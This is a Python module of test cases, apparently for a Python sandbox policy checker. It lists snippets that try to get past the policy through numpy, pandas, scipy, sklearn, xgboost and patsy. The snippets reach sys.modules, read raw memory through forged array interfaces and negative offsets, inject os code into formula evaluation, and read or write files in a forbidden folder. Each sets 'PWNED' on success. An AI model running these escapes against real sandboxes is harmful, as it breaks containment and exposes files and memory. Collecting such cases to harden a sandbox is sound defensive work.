"""Ways past the policy through libraries: their proxies, protocols, text, and compiled code that opens files.

Each sets `result` to "PWNED" if it got what it was after. `@OUTSIDE@` is a folder that a program may not reach.
"""

PROXIES = {
    "a generic alias of a module": """
import sys
Alias = type(list[int])
result = 'PWNED' if Alias(sys, (int,)).modules else ''
""",
    "an unlisted function by a generic alias": """
import numpy as np
Alias = type(list[int])
result = 'PWNED' if Alias(np, (int,)).fromfile else ''
""",
    "a frozen estimator of a module": """
import sys
from sklearn.frozen import FrozenEstimator
result = 'PWNED' if FrozenEstimator(sys).modules else ''
""",
    "a proxy of styles around a module": """
import sys, openpyxl
Proxy = type(openpyxl.Workbook().active['A1'].font)
result = 'PWNED' if Proxy(sys).modules else ''
""",
    "a traceback by a with statement": """
seen = []
class Ends:
    def __enter__(self): return self
    def __exit__(self, kind, error, traceback):
        seen.append(traceback)
        return True
with Ends():
    1 / 0
result = 'PWNED' if seen[0] is not None else ''
""",
    "a traceback by the rest of the arguments": """
seen = []
class Ends:
    def __enter__(self): return self
    def __exit__(self, *details):
        seen.extend(details)
        return True
with Ends():
    1 / 0
result = 'PWNED' if seen[2] is not None else ''
""",
    "a traceback by a stack of exits": """
import contextlib
seen = []
def ends(kind, error, traceback):
    seen.append(traceback)
    return True
with contextlib.ExitStack() as stack:
    stack.push(ends)
    1 / 0
result = 'PWNED' if seen[0] is not None else ''
""",
}

_ADDRESS = "{'version': 3, 'shape': (4,), 'typestr': '<i8', 'data': (id(np.sum), True)}"
PROTOCOLS = {
    "memory by a namespace": f"""
import numpy as np, types
array = np.asarray(types.SimpleNamespace(__array_interface__={_ADDRESS}))
result = 'PWNED' if array.dtype == 'int64' else ''
""",
    "memory by a label of a series": f"""
import numpy as np, pandas as pd
array = np.asarray(pd.Series({{'__array_interface__': {_ADDRESS}}}))
result = 'PWNED' if array.dtype == 'int64' else ''
""",
    "memory by a bunch": f"""
import numpy as np
from sklearn.utils import Bunch
array = np.asarray(Bunch(**{{'__array_interface__': {_ADDRESS}}}))
result = 'PWNED' if array.dtype == 'int64' else ''
""",
    "memory by the result of an optimisation": f"""
import numpy as np
from scipy.optimize import OptimizeResult
array = np.asarray(OptimizeResult(**{{'__array_interface__': {_ADDRESS}}}))
result = 'PWNED' if array.dtype == 'int64' else ''
""",
    "memory by a data set of statsmodels": f"""
import numpy as np, statsmodels.api as sm
data = sm.datasets.longley.load()
data['__array_interface__'] = {_ADDRESS}
array = np.asarray(data)
result = 'PWNED' if array.dtype == 'int64' else ''
""",
    "a module changed by a copy": """
import copy, json, types
def give(): return json
fake = types.SimpleNamespace(**{'__reduce_ex__': lambda protocol: (give, (), (None, {'dumps': 5}))})
copy.copy(fake)
result = 'PWNED'
""",
    "memory before an array": """
import numpy as np
result = 'PWNED' if len(np.ndarray((1,), 'i8', buffer=bytearray(8), offset=-8)) else ''
""",
    "memory as an object": """
import numpy as np
result = 'PWNED' if len(np.ndarray((1,), 'O', buffer=bytearray(8))) else ''
""",
    "memory before an array of a subclass": """
import numpy as np
class Mine(np.ndarray): pass
result = 'PWNED' if len(Mine((1,), 'i8', bytearray(8), -8)) else ''
""",
    "memory before an array by an alias of types": """
import numpy as np, numpy.typing as npt
result = 'PWNED' if len(npt.NDArray[np.int64]((1,), 'i8', bytearray(8), -8)) else ''
""",
    "memory before records": """
import numpy as np
result = 'PWNED' if len(np.rec.fromstring(b'12345678', dtype='i8', shape=1, offset=-8)) else ''
""",
    "memory before texts": """
import numpy as np
result = 'PWNED' if len(np.char.chararray((1,), 8, buffer=bytearray(8), offset=-8)) else ''
""",
    "the fields of a type by a comparison": """
import numpy as np
seen = []
class Spy:
    def __eq__(self, other):
        seen.append(other)
        return True
kind = np.dtype([('a', 'i8')])
kind.fields == Spy()
seen[0]['a'] = (np.dtype('O'), 0)
result = 'PWNED' if kind.fields['a'][0] == np.dtype('O') else ''
""",
    "a module by the namespace of arrays": """
from sklearn.metrics.pairwise import get_namespace
result = 'PWNED'
""",
    "an environment given to a formula": """
import types
from patsy import dmatrix
seen = []
try:
    dmatrix(types.SimpleNamespace(__patsy_get_model_desc__=seen.append), {'x': [1]})
except Exception:
    pass
result = 'PWNED' if seen else ''
""",
}

SINKS = {
    "variables of a caller by r_": """
import numpy as np
result = 'PWNED' if len(np.r_['_IMMUTABLE_TYPES']) else ''
""",
    "variables of a caller by bmat": """
import numpy as np
kept = np.ones((1, 1))
result = 'PWNED' if len(np.bmat('kept')) else ''
""",
    "the code of a formula that was changed": """
import pandas as pd
from patsy import dmatrix
frame = pd.DataFrame({'x': [1.0, 2.0]})
design = dmatrix('x', frame).design_info
for factor in design.factor_infos.values():
    factor.state['eval_code'] = "x + 0 * __import__('os').getpid()"
dmatrix(design, frame)
result = 'PWNED'
""",
    "a dispatch behind a comment": """
import pandas as pd
pd.DataFrame({'a': [1.0, 2.0]}).eval("x = a # '\\ny = x.agg(['__dir__']) # '")
result = 'PWNED'
""",
    "a method by an index": """
import pandas as pd
pd.DataFrame({'a': [1.0, 2.0]}).agg(pd.Index(['__dir__']))
result = 'PWNED'
""",
    "a method by a series of methods": """
import pandas as pd
pd.DataFrame({'a': [1.0, 2.0]}).agg(pd.Series({'a': '__dir__'}))
result = 'PWNED'
""",
    "a method by a mapping that lies": """
import pandas as pd
class Lie(dict):
    def values(self): return []
pd.DataFrame({'a': [1.0, 2.0]}).agg(Lie({'a': '__dir__'}))
result = 'PWNED'
""",
    "a window by name": """
import pandas as pd
try:
    pd.Series([1.0, 2.0]).rolling(2, win_type='__dir__').mean()
    result = 'PWNED'
except TypeError:
    result = 'PWNED'
""",
    "names of columns by a template": """
import pandas as pd
from sklearn.compose import ColumnTransformer
from sklearn.preprocessing import StandardScaler
steps = [('scale', StandardScaler(), ['a'])]
names = ColumnTransformer(steps, verbose_feature_names_out='{feature_name.__class__}')
found = names.fit(pd.DataFrame({'a': [1.0, 2.0]})).get_feature_names_out()
result = 'PWNED' if 'class' in str(list(found)) else ''
""",
    "numbers by a template": """
import pandas as pd
text = pd.DataFrame({'a': [1.5]}).to_string(float_format='{0.__class__}')
result = 'PWNED' if 'class' in text else ''
""",
    "numbers of a style by an option": """
import pandas as pd
pd.set_option('styler.format.formatter', '{0.__class__}')
text = pd.DataFrame({'a': [1.5]}).style.to_html()
result = 'PWNED' if 'class &' in text or "<class '" in text else ''
""",
    "titles by a template": """
import pandas as pd, seaborn as sns
grid = sns.FacetGrid(pd.DataFrame({'a': [1.0, 2.0], 'k': ['x', 'y']}), col='k')
grid.set_titles('{col_name.__class__}')
result = 'PWNED' if 'class' in grid.axes[0, 0].get_title() else ''
""",
}

FILES = {
    "a list of tables": """
import pandas as pd
frame = pd.read_parquet(['@OUTSIDE@/secret.parquet'])
result = 'PWNED'
""",
    "a list that pretends to be a file": """
import pandas as pd
class Paths(list):
    def read(self, *rest): return b''
frame = pd.read_parquet(Paths(['@OUTSIDE@/secret.parquet']))
result = 'PWNED'
""",
    "lines of JSON": """
import pandas as pd
result = 'PWNED' if len(pd.read_json('@OUTSIDE@/lines.json', engine='pyarrow', lines=True)) else ''
""",
    "a matrix that is read": """
import scipy.io
result = 'PWNED' if scipy.io.mmread('@OUTSIDE@/secret.mtx').shape else ''
""",
    "the size of a matrix": """
import scipy.io
result = 'PWNED' if scipy.io.mminfo('@OUTSIDE@/secret.mtx') else ''
""",
    "a matrix that is written": """
import numpy as np, scipy.io
scipy.io.mmwrite('@OUTSIDE@/new.mtx', np.ones((2, 2)))
result = 'PWNED'
""",
    "names of features": """
import numpy as np, xgboost as xgb
model = xgb.train({}, xgb.DMatrix(np.arange(40.0).reshape(20, 2), label=np.arange(20.0)), 2)
result = 'PWNED' if model.get_dump(fmap='@OUTSIDE@/features.txt') else ''
""",
    "names of features whose text lies": """
import numpy as np, xgboost as xgb
class Lie(str):
    def encode(self, *rest): return b'@OUTSIDE@/features.txt'
model = xgb.train({}, xgb.DMatrix(np.arange(40.0).reshape(20, 2), label=np.arange(20.0)), 2)
result = 'PWNED' if 'SECRET' in str(model.get_dump(fmap=Lie('x'))) else ''
""",
    "scores of features": """
import numpy as np, xgboost as xgb
model = xgb.train({}, xgb.DMatrix(np.arange(40.0).reshape(20, 2), label=np.arange(20.0)), 2)
result = 'PWNED' if model.get_score(fmap='@OUTSIDE@/features.txt') else ''
""",
    "a cache of pages": """
import numpy as np, xgboost as xgb
class Pages(xgb.DataIter):
    def __init__(self):
        self.page = 0
        super().__init__(cache_prefix='@OUTSIDE@/cache')
    def reset(self): self.page = 0
    def next(self, input_data):
        self.page += 1
        if self.page == 1: input_data(data=np.ones((20, 2)), label=np.ones(20))
        return self.page == 1
xgb.DMatrix(Pages())
result = 'PWNED'
""",
    "a log of a solver": """
import numpy as np
from scipy.optimize import milp
milp(np.ones(2), options={'log_file': '@OUTSIDE@/log.txt'})
result = 'PWNED'
""",
    "input of a hull": """
import numpy as np
from scipy.spatial import ConvexHull
ConvexHull(np.array([[0.0, 0], [0, 1], [1, 0]]), qhull_options='TI @OUTSIDE@/features.txt')
result = 'PWNED'
""",
}

LIBRARY_ATTACKS = {
    f"{kind}: {name}": source
    for kind, attacks in {
        "proxies": PROXIES,
        "protocols": PROTOCOLS,
        "sinks": SINKS,
        "files": FILES,
    }.items()
    for name, source in attacks.items()
}
